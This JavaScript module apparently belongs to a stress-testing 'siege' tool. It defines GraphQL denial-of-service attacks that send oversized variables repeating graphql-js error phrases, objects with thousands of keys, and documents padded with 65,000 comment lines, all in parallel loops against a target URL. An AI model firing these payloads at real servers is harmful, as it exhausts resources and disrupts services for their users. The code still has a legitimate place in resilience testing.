// The attacks of a siege with GraphQL documents and variables.
import { inLoops } from './loops.mjs';

/** @type {Record<string, import('./attacks.mjs').Attack>} */
export const ATTACKS_WITH_DOCUMENTS = {
  /** A variable that repeats a phrase of graphql-js's error messages. */
  'error-messages': {
    run: ({ url }, until) =>
      inLoops(8, until, url, (client, n) => {
        const { query, variables } = messages(n);
        return client.graphql(query, variables);
      }),
  },

  /** Documents full of comments, with unique operation names, which a server might cache with all of their tokens. */
  'long-documents': {
    run: ({ url }, until) =>
      inLoops(8, until, url, (client, n) =>
        client.graphql(`query A${n} { config { appName } }${'#\n'.repeat(65_000)}`),
      ),
  },
};

/** @param {number} n */
function messages(n) {
  const search = 'query($f: ServicesFilter) { services(filter: $f) { id } }';
  const guess = 'Did you mean ';
  const kinds = [
    { query: search, variables: { f: { search: { a: guess.repeat(14_500) } } } },
    {
      query: search,
      variables: {
        f: {
          search: { a: guess.repeat(14_000) },
          ...Object.fromEntries(Array.from({ length: 49 }, (_, n) => [`k${n}`, 1])),
        },
      },
    },
    {
      query: 'query($r: UserRole) { adminUsers(role: $r) { id } }',
      variables: { r: ' cannot represent '.repeat(10_000) },
    },
    {
      query: search,
      variables: {
        f: Object.fromEntries(Array.from({ length: 17_000 }, (_, n) => [`k${n}`, 1])),
      },
    },
    {
      query: `{ services(filter: { search: { a: "${guess.repeat(14_000)}" } }) { id } }`,
      variables: {},
    },
  ];
  return /** @type {{ query: string, variables: object }} */ (kinds[n % kinds.length]);
}
